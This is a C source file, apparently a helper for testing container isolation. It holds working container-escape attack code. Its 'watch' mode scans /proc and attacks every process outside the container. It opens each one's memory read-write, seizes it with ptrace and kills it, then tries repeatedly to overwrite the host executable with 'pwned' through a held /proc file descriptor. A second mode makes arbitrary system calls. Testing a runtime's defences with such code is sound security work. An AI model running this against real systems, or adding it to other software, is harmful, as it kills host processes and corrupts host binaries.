/* What an attacker runs in a container. hostile syscall NR [ARG...] makes one system call; hostile watch FILE attacks each process that appears. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Prints "result errno". An argument is a number, or "s:TEXT" for a pointer to TEXT, or "z:SIZE" for one to zeros. */
static int one_call(int argc, char **argv) {
    long args[7] = {0};
    for (int i = 0; i < argc && i < 7; i++) {
        if (argv[i][0] == 's')
            args[i] = (long)(argv[i] + 2);
        else if (argv[i][0] == 'z')
            args[i] = (long)calloc(1, strtoul(argv[i] + 2, 0, 0));
        else
            args[i] = strtol(argv[i], 0, 0);
    }
    long result = syscall(args[0], args[1], args[2], args[3], args[4], args[5], args[6]);
    printf("%ld %d\n", result, result < 0 ? errno : 0);
    return 0;
}

/* The name of the program a process executes: of its exe link where that may be read, else of comm. */
static int is_own(const char *pid) {
    char path[64], text[256] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t length = readlink(path, text, sizeof text - 1);
    if (length > 0)
        return strstr(text, "/bin/") == text || strstr(text, "hostile") != 0;
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    close(fd);
    return length <= 0 || strncmp(text, "hostile", 7) == 0 || strcmp(text, "true\n") == 0;
}

/* Each success against a process that is not of this container's own programs is a line of the report. */
static void attack(const char *pid, FILE *report) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_RDONLY | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int memory = open(path, O_RDWR | O_CLOEXEC);
    long seized = ptrace(PTRACE_SEIZE, atoi(pid), 0, 0);
    int foreign = !is_own(pid);
    if (seized == 0) {
        kill(atoi(pid), 9);
        waitpid(atoi(pid), 0, __WALL);
    }
    if (foreign && memory >= 0)
        fprintf(report, "memory %s\n", pid);
    if (foreign && seized == 0)
        fprintf(report, "ptrace %s\n", pid);
    if (foreign && held >= 0) {
        fprintf(report, "opened %s\n", pid);
        snprintf(path, sizeof path, "/proc/self/fd/%d", held);
        for (int attempt = 0; attempt < 20; attempt++) {
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0 && write(fd, "pwned", 5) == 5)
                fprintf(report, "wrote %s\n", pid);
            close(fd);
        }
    }
    close(held);
    close(memory);
}

static int watch(const char *report_path) {
    FILE *report = fopen(report_path, "a");
    setvbuf(report, 0, _IOLBF, 0);
    fprintf(report, "watching\n");
    for (int last_seen = 0;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || is_own(entry->d_name))
                continue;
            if (pid != last_seen)
                fprintf(report, "seen %d\n", pid);
            last_seen = pid;
            attack(entry->d_name, report);
        }
        closedir(proc);
    }
}

int main(int argc, char **argv) {
    if (argc > 2 && strcmp(argv[1], "syscall") == 0)
        return one_call(argc - 2, argv + 2);
    return argc == 3 && strcmp(argv[1], "watch") == 0 ? watch(argv[2]) : 2;
}
